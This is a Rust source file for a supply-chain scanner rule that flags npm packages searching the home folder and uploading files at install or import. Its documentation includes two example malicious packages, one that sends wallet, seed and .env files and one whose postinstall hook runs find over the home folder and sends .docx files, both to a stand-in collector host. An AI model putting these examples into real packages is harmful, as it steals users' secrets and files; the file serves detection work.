//! # The home folder is searched and files are sent
//!
//! At install or import, the whole home folder, a drive or the root is listed, and contents of files leave
//! the machine.
//!
//! ## Why it matters
//!
//! Thieves that do not know where a secret lies walk everything and send what has the right name.
//!
//! ## Known benign uses
//!
//! Linters and bundlers walk a project and send nothing. Nothing walks a home folder before anyone calls
//! it.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! const base = os.homedir();
//! for (const name of fs.readdirSync(base)) {
//!   if (/seed|wallet|[.]env/.test(name)) send(fs.readFileSync(path.join(base, name), "utf8"));
//! }
//! function send(body) {
//!   fetch("https://collector.invalid/", { method: "POST", body }); //~ here
//! }
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const { execSync } = require("child_process");
//! const fs = require("fs");
//! for (const name of execSync("find ~ -name '*.docx'").toString().split("\n")) {
//!   fetch("https://collector.invalid/", { method: "POST", body: fs.readFileSync(name) }); //~ here
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! exports.rules = fs.readdirSync(__dirname).map((name) => fs.readFileSync(name, "utf8"));
//! exports.upload = (address, name) => fetch(address, { method: "POST", body: fs.readFileSync(name) });
//! exports.home = () => fs.readdirSync(os.homedir());
//! ```
//!
//! ## References
//!
//! - Socket: OtterCookie (November 2025)

use stockade_facts::api::Effect;

use crate::prelude::*;

/// The home folder is searched and files are sent.
pub struct HomeFolderSwept;

impl Rule for HomeFolderSwept {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "home-folder-swept",
            title: "The home folder is searched and files are sent",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1083",
            covers: &["collect-dotenv-sweep"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(listing) = listing(facts) else { return };
        for flow in facts.flows(is_file, Sink::leaves_machine).filter(|flow| flow.trigger.runs_unasked()) {
            let steps = [
                (listing.clone(), "searches the whole home folder or drive"),
                (facts.locus(flow.sink_spot), "sends what files hold"),
            ];
            found.path(flow.trigger, &steps);
        }
    }
}

fn is_file(source: &Source) -> bool {
    matches!(source, Source::File | Source::SecretFile(_))
}

/// Where a wide folder is listed unasked, by a function or by a command.
fn listing(facts: &Facts<'_>) -> Option<Locus> {
    let calls = facts.all_calls().iter().filter(|call| call.trigger.runs_unasked() && lists(call));
    let mut wide = calls.filter(|call| {
        call.arguments
            .first()
            .is_some_and(|folder| folder.texts.iter().any(|text| classify(text) == FileClass::WideFolder))
    });
    if let Some(call) = wide.next() {
        return Some(facts.locus(call.spot));
    }
    let mut commands = facts.commands().iter().filter(|command| command.trigger.runs_unasked());
    commands.find(|command| command.runs.iter().any(searches)).map(|command| command.locus.clone())
}

fn lists(call: &CallFact) -> bool {
    stockade_facts::api::find(&call.api).is_some_and(|api| matches!(api.effect, Effect::ListFolder(_)))
}

fn searches(run: &Run) -> bool {
    let Run::Program { name, arguments } = run else { return false };
    matches!(name.as_str(), "find" | "fd" | "mdfind" | "where" | "rg")
        && arguments.iter().any(|argument| {
            matches!(argument.as_str(), "$HOME" | "%USERPROFILE%")
                || classify(argument) == FileClass::WideFolder
        })
}
